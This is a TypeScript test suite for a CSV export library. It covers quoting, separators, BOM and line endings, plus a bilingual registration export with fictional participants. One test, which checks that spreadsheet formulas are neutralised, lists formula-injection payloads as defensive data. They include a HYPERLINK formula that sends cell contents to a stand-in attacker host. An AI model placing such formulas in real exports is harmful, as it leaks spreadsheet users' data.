import { expect } from '@open-wc/testing';
import { parseWith, registrationColumns, RegistrationSchema, toCSV, type Registration } from '../../src/index.js';
import { cycleWith, journee4, journee5, journeeBonus } from './fixtures.js';

/** A strict RFC 4180 reader, to check that what is written reads back as it was. */
function readCSV(text: string, separator = ';'): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += text[i++];
      }
      if (i < text.length && text[i] !== separator && text[i] !== '\r') throw new Error(`text after closing quote at ${i}`);
    } else if (text[i] === separator) {
      record.push(field); field = ''; i++;
    } else if (text[i] === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      record.push(field); records.push(record); record = []; field = ''; i += 2;
    } else if (text[i] === '\n' || text[i] === '"') {
      throw new Error(`unquoted ${JSON.stringify(text[i])} at ${i}`);
    } else {
      field += text[i++];
    }
  }
  if (field !== '' || record.length) throw new Error('last record does not end with CRLF');
  return records;
}

const BOM = '\uFEFF';
const withoutBom = (s: string) => (s.startsWith(BOM) ? s.slice(1) : s);

describe('formats: CSV', () => {
  interface Row { name: string; seats: number | null; note?: string }
  const rows: Row[] = [
    { name: 'Alban', seats: 40, note: 'salle, parking' },
    { name: 'Cap; Découverte', seats: null },
  ];

  it('writes a BOM, `;`-separated fields and CRLF records by default, with a header', () => {
    expect(toCSV(rows, ['name', 'seats', 'note'])).to.equal(
      `${BOM}name;seats;note\r\nAlban;40;salle, parking\r\n"Cap; Découverte";;\r\n`,
    );
  });

  it('follows the separator, header and BOM options', () => {
    expect(toCSV(rows, ['name', 'note'], { separator: ',', bom: false })).to.equal(
      'name,note\r\nAlban,"salle, parking"\r\nCap; Découverte,\r\n',
    );
    expect(toCSV(rows, ['name', 'seats'], { separator: '\t', header: false })).to.equal(
      `${BOM}Alban\t40\r\nCap; Découverte\t\r\n`,
    );
    expect(toCSV([{ a: 'x\ty' }], ['a'], { separator: '\t', bom: false, header: false })).to.equal('"x\ty"\r\n');
  });

  it('takes columns with a header and a value function', () => {
    const csv = toCSV(rows, [
      { header: 'Lieu', value: (r) => r.name.toUpperCase() },
      { header: 'Places', value: (r) => r.seats ?? 'non précisé' },
    ], { bom: false });
    expect(csv).to.equal('Lieu;Places\r\nALBAN;40\r\n"CAP; DÉCOUVERTE";non précisé\r\n');
  });

  it('quotes fields with the separator, a quote or a line break, doubling the quotes', () => {
    const values = ['a;b', 'il a dit "oui"', 'deux\nlignes', 'retour\rchariot', 'sans rien', 'a,b'];
    const csv = toCSV([values], values.map((_, i) => ({ header: `c${i}`, value: (r: string[]) => r[i] })), { bom: false, header: false });
    expect(csv).to.equal('"a;b";"il a dit ""oui""";"deux\nlignes";"retour\rchariot";sans rien;a,b\r\n');
  });

  it('round-trips text with separators, quotes and line breaks', () => {
    const tricky = [
      'Besoins ; fauteuil roulant, "place réservée"\r\nrégime sans gluten\nmerci',
      '"',
      '',
      ' espaces ',
      'Élu·es « coopération » 🌱',
    ];
    for (const separator of [';', ',', '\t'] as const) {
      const csv = toCSV(tricky.map((t) => ({ t })), ['t'], { separator });
      expect(csv.startsWith(BOM)).to.equal(true);
      expect(readCSV(withoutBom(csv), separator)).to.deep.equal([['t'], ...tricky.map((t) => [t])]);
    }
  });

  it('writes values of every type as documented', () => {
    const values: unknown[] = [
      null,
      undefined,
      1.5,
      -2,
      Number.NaN,
      Number.POSITIVE_INFINITY,
      12n,
      true,
      false,
      new Date('2026-03-26T08:00:00Z'),
      new Date('invalid'),
      ['Journée 4', 5, null],
      { a: 1 },
    ];
    const csv = toCSV([values], values.map((_, i) => ({ header: String(i), value: (r: unknown[]) => r[i] })), { bom: false, header: false });
    expect(readCSV(csv)).to.deep.equal([
      ['', '', '1.5', '-2', '', '', '12', 'true', 'false', '2026-03-26T08:00:00.000Z', '', 'Journée 4, 5, ', '{"a":1}'],
    ]);
  });

  it('neutralises formulas in text, but not numbers', () => {
    const attacks = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")',
      '+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '=1+1;2',
      'sans danger = ok',
    ];
    const csv = toCSV(attacks.map((a) => ({ a, n: -2 })), ['a', 'n'], { bom: false, header: false });
    expect(readCSV(csv)).to.deep.equal([
      ["'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Cliquez\")", '-2'],
      ["'+1", '-2'],
      ["'-2+3", '-2'],
      ["'@SUM(A1:A9)", '-2'],
      ["'\t=1+1", '-2'],
      ["'\r=1+1", '-2'],
      ["'=1+1;2", '-2'],
      ['sans danger = ok', '-2'],
    ]);
    // Headers are text too.
    expect(toCSV([], [{ header: '=cmd', value: () => 1 }], { bom: false })).to.equal("'=cmd\r\n");
  });

  describe('registrationColumns', () => {
    const cycle = cycleWith({ sessions: [journee4, journee5, journeeBonus] });
    const registration = (input: Record<string, unknown>): Registration =>
      parseWith(RegistrationSchema, {
        cycleId: 'mpc-2026',
        createdAt: '2026-02-01T10:15:00+01:00',
        ...input,
      });
    const registrations = [
      registration({
        id: 'r1',
        status: 'confirmed',
        participant: {
          firstName: 'Camille', lastName: 'Durand', email: 'camille.durand@example.org', phone: '+33 6 12 34 56 78',
          function: 'head-of-department', organisationId: 'ccmav',
        },
        sessionIds: ['j4', 'j5', 'j6'],
        accessNeeds: 'Accès PMR ; place proche',
      }),
      registration({
        id: 'r2',
        status: 'waitlisted',
        waitlistPosition: 2,
        participant: {
          firstName: 'Dominique', lastName: '=Martin', email: 'd.martin@example.org',
          function: 'other', functionOther: 'Conseiller en transition', organisationName: 'Ouest Aveyron Communauté',
        },
        sessionIds: ['j5'],
      }),
    ];

    it('exports registrations with French headers and words', () => {
      const [header, first, second] = readCSV(withoutBom(toCSV(registrations, registrationColumns(cycle, 'fr'))));
      expect(header).to.deep.equal([
        'Identifiant', 'Statut', "Rang en liste d'attente", 'Nom', 'Prénom', 'Courriel', 'Téléphone', 'Fonction',
        'Organisation', 'Journées', "Besoins d'adaptation", 'Inscription le (UTC)',
      ]);
      expect(first).to.deep.equal([
        'r1', 'Confirmée', '', 'Durand', 'Camille', 'camille.durand@example.org', "'+33 6 12 34 56 78", 'Chef·fe de service',
        "Communauté de communes des Monts d'Alban et du Villefranchois",
        "Journée 4, Journée 5, Tester les outils d'animation de la coopération",
        'Accès PMR ; place proche', '2026-02-01T09:15:00.000Z',
      ]);
      expect(second).to.deep.equal([
        'r2', "En liste d'attente", '2', "'=Martin", 'Dominique', 'd.martin@example.org', '', 'Conseiller en transition',
        'Ouest Aveyron Communauté', 'Journée 5', '', '2026-02-01T09:15:00.000Z',
      ]);
    });

    it('exports registrations with English headers and words', () => {
      const [header, first] = readCSV(toCSV(registrations, registrationColumns(cycle, 'en'), { bom: false, separator: ',' }), ',');
      expect(header).to.deep.equal([
        'ID', 'Status', 'Waitlist position', 'Last name', 'First name', 'Email', 'Phone', 'Function',
        'Organisation', 'Sessions', 'Access needs', 'Registered at (UTC)',
      ]);
      expect(first!.slice(1, 2)).to.deep.equal(['Confirmed']);
      expect(first![7]).to.equal('Head of department');
      expect(first![9]).to.equal("Day 4, Day 5, Tester les outils d'animation de la coopération");
    });
  });
});
